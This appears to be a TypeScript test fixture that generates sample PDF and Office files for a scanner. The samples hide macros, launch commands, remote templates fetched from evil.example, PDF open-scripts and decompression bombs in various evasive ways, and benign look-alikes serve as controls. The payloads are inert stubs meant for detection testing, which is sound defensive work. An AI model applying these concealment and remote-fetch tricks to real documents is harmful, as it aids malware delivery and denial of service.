import { deflateSync } from 'node:zlib'
import { compoundOf, officeOf, zipOf } from './files.ts'

/** Files that would run, open or fetch something when opened, each hidden in a different way. */

/** A PDF of these objects, with its cross-reference table; a stream has its bytes after its dictionary. */
function pdfWith(
  objects: readonly (string | { dictionary: string; bytes: Uint8Array })[],
  trailer = '/Root 1 0 R',
): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  const offsets: number[] = []
  const length = () => parts.reduce((sum, part) => sum + part.length, 0)
  for (const [place, object] of objects.entries()) {
    offsets.push(length())
    const body =
      typeof object === 'string'
        ? Buffer.from(object, 'latin1')
        : Buffer.concat([
            Buffer.from(`<< ${object.dictionary} /Length ${object.bytes.length} >>\nstream\n`, 'latin1'),
            object.bytes,
            Buffer.from('\nendstream'),
          ])
    parts.push(Buffer.from(`${place + 1} 0 obj\n`), body, Buffer.from('\nendobj\n'))
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const start = length()
  parts.push(
    Buffer.from(
      `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${offsets.length + 1} ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>'
/** A PDF with these entries in its catalogue, and these objects from number 4 on. */
const pdfOpening = (catalogue: string, ...more: Parameters<typeof pdfWith>[0]) =>
  pdfWith([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, pages, page, ...more])

/** Packs objects into a stream, as PDF 1.5 and later write them. */
function objectStream(objects: readonly string[], filters = '/FlateDecode') {
  const offsets = objects.map((_, place) => objects.slice(0, place).join(' ').length + (place > 0 ? 1 : 0))
  const header = `${objects.map((_, place) => `${place + 10} ${offsets[place]}`).join(' ')} `
  const plain = Buffer.from(header + objects.join(' '), 'latin1')
  const packed = filters.includes('Flate') ? deflateSync(plain) : plain
  const bytes = filters.includes('ASCIIHex') ? Buffer.from(`${packed.toString('hex')}>`) : packed
  return {
    dictionary: `/Type /ObjStm /N ${objects.length} /First ${header.length} /Filter ${filters}`,
    bytes,
  }
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const relations = (...lines: string[]) => ({
  name: 'word/_rels/document.xml.rels',
  content: Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`,
  ),
})
const relationOf = (type: string, target: string, mode = '') =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/>`
const external = ' TargetMode="External"'
const macroProject = Buffer.concat([
  compoundOf('_VBA_PROJECT'),
  Buffer.from('Attribute VB_Name = "ThisDocument"', 'latin1'),
])
const typesNaming = (type: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`
const officeTyped = (types: Uint8Array) =>
  zipOf([
    { name: '[Content_Types].xml', content: types },
    { name: 'word/document.xml', content: Buffer.from('<document/>') },
  ])
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const macroDocument = 'application/vnd.ms-word.document.macroEnabled.main+xml'

export const activeFiles: readonly [what: string, name: string, bytes: () => Uint8Array][] = [
  [
    'macros under another name',
    'plan.docx',
    () => officeOf('docx', { name: 'word/media/image1.png', content: macroProject }),
  ],
  ['macros in a workbook', 'plan.xlsx', () => officeOf('xlsx', { name: 'xl/theme/theme9.xml', content: macroProject })],
  ['macros in slides', 'plan.pptx', () => officeOf('pptx', { name: 'ppt/slides/notes.bin', content: macroProject })],
  [
    'macros by their own name',
    'plan.docx',
    () => officeOf('docx', { name: 'word/vbaProject.bin', content: Buffer.from('x') }),
  ],
  [
    'macros by their relation alone',
    'plan.docx',
    () =>
      officeOf(
        'docx',
        relations(
          '<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme/x.xml"/>',
        ),
      ),
  ],
  [
    'a document of the kind with macros, renamed',
    'plan.docx',
    () => officeTyped(Buffer.from(typesNaming(macroDocument))),
  ],
  ['the same in UTF-16', 'plan.docx', () => officeTyped(utf16(typesNaming(macroDocument)))],
  [
    'the same by character references',
    'plan.docx',
    () => officeTyped(Buffer.from(typesNaming(macroDocument.replace('macro', '&#109;acr&#x6f;')))),
  ],
  [
    'a template from elsewhere',
    'plan.docx',
    () => officeOf('docx', relations(relationOf('attachedTemplate', 'https://evil.example/t.dotm', external))),
  ],
  [
    'a linked object from elsewhere',
    'plan.docx',
    () =>
      officeOf('docx', relations(relationOf('oleObject', 'https://evil.example/a', " TargetMode = '&#69;xternal'"))),
  ],
  [
    'a picture from elsewhere',
    'plan.docx',
    () => officeOf('docx', relations(relationOf('image', 'https://evil.example/pixel.png', external))),
  ],
  ['an ActiveX control', 'plan.docx', () => officeOf('docx', relations(relationOf('control', 'activeX/activeX1.xml')))],
  [
    'a packed program',
    'plan.docx',
    () => officeOf('docx', { name: 'word/embeddings/oleObject1.bin', content: compoundOf('\x01Ole10Native') }),
  ],
  [
    'macros in an embedded workbook',
    'plan.pptx',
    () =>
      officeOf('pptx', {
        name: 'ppt/embeddings/Sheet1.xlsx',
        content: officeOf('xlsx', { name: 'xl/a.bin', content: macroProject }),
      }),
  ],
  ['macros in the older kind', 'plan.doc', () => compoundOf('WordDocument', '_VBA_PROJECT')],
  ['a script that runs when it is opened', 'plan.pdf', () => pdfOpening(`/OpenAction ${script}`)],
  ['a script whose name is escaped', 'plan.pdf', () => pdfOpening('/OpenAction << /S /J#61v#61Script /J#53 (x) >>')],
  ['a script in a packed object', 'plan.pdf', () => pdfOpening('/OpenAction 10 0 R', objectStream([script]))],
  [
    'a script in an object packed twice',
    'plan.pdf',
    () => pdfOpening('/OpenAction 10 0 R', objectStream([script], '[/ASCIIHexDecode /FlateDecode]')),
  ],
  [
    'a script with its kind elsewhere',
    'plan.pdf',
    () => pdfOpening('/OpenAction << /S 4 0 R /JS 5 0 R >>', '/JavaScript', '(x)'),
  ],
  [
    'a script in the bytes of a picture',
    'plan.pdf',
    () =>
      pdfOpening('/OpenAction 9 0 R', {
        dictionary: '/Subtype /Image',
        bytes: Buffer.from(`xx (\n9 0 obj ${script} endobj`),
      }),
  ],
  ['a script behind an unclosed text', 'plan.pdf', () => pdfOpening('/OpenAction 5 0 R', '(never closed', script)],
  ['a command that is launched', 'plan.pdf', () => pdfOpening('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  [
    'an attached file',
    'plan.pdf',
    () =>
      pdfOpening(
        '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
        '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
        { dictionary: '/Type /EmbeddedFile', bytes: Buffer.from('MZ') },
      ),
  ],
  [
    'a form of the XML kind',
    'plan.pdf',
    () => pdfOpening('/AcroForm << /Fields [] /XFA 4 0 R >>', { dictionary: '', bytes: Buffer.from('<xdp/>') }),
  ],
  [
    'Flash and its relatives',
    'plan.pdf',
    () => pdfOpening('', '<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>'),
  ],
]

/** Files that cannot be inspected without their author's password. */
export const protectedFiles: readonly [what: string, name: string, bytes: () => Uint8Array][] = [
  [
    'a PDF with a password',
    'plan.pdf',
    () =>
      pdfWith(
        ['<< /Type /Catalog /Pages 2 0 R >>', pages, page, '<< /Filter /Standard /V 2 /R 3 >>'],
        '/Root 1 0 R /Encrypt 4 0 R',
      ),
  ],
  ['an Office file with a password', 'plan.docx', () => compoundOf('EncryptedPackage')],
]

/** Files that would take endless time or memory to inspect. */
export const exhaustingFiles: readonly [what: string, name: string, bytes: () => Uint8Array][] = [
  [
    'objects that unfold to 200 MB',
    'plan.pdf',
    () =>
      pdfOpening('', {
        dictionary: '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
        bytes: deflateSync(Buffer.alloc(200_000_000, 0x20)),
      }),
  ],
  ['lists in lists without an end', 'plan.pdf', () => pdfOpening('', '['.repeat(2_000_000))],
  ['a million texts that are never closed', 'plan.pdf', () => pdfOpening('', ' 1 0 obj ('.repeat(900_000))],
  [
    'packed objects that are cut off',
    'plan.pdf',
    () =>
      pdfOpening('', {
        dictionary: '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
        bytes: deflateSync(Buffer.alloc(5_000, 1)).subarray(0, 12),
      }),
  ],
  [
    'an Office file in an Office file, and so on',
    'plan.docx',
    () =>
      Array.from({ length: 12 }).reduce<Uint8Array>(
        (inner) => officeOf('docx', { name: 'word/embeddings/a.docx', content: inner }),
        officeOf('docx'),
      ),
  ],
  [
    'two parts of one name',
    'plan.docx',
    () => officeOf('docx', { name: 'WORD/document.xml', content: Buffer.from('<other/>') }),
  ],
  [
    'relations with a document type',
    'plan.docx',
    () =>
      officeOf('docx', { name: '_rels/.rels', content: Buffer.from('<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>') }),
  ],
  [
    'a part that unpacks to more than it says',
    'plan.docx',
    () => officeOf('docx', { name: 'word/a.rels', content: Buffer.alloc(90_000, 0x20), claims: 10 }),
  ],
]

/** Harmless everyday files, including everything that only resembles the files above. */
export const honestFiles: readonly [what: string, name: string, bytes: () => Uint8Array][] = [
  [
    'a PDF with links, an outline and packed objects',
    'plan.pdf',
    () =>
      pdfOpening(
        '/OpenAction [3 0 R /Fit] /Outlines 10 0 R',
        objectStream([
          '<< /Type /Outlines >>',
          '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example/JavaScript) >> >>',
        ]),
      ),
  ],
  [
    'a PDF that speaks of scripts',
    'plan.pdf',
    () =>
      pdfOpening('/Lang (en)', '(We write /S /JavaScript and /Launch)', {
        dictionary: '',
        bytes: Buffer.from('BT (/JavaScript /EmbeddedFile) Tj ET'),
      }),
  ],
  [
    'a document with links and pictures of its own',
    'plan.docx',
    () =>
      officeOf(
        'docx',
        relations(relationOf('hyperlink', 'https://a.example/', external), relationOf('image', 'media/image1.png')),
      ),
  ],
  [
    'slides with a chart',
    'plan.pptx',
    () => officeOf('pptx', { name: 'ppt/embeddings/Sheet1.xlsx', content: officeOf('xlsx') }),
  ],
]
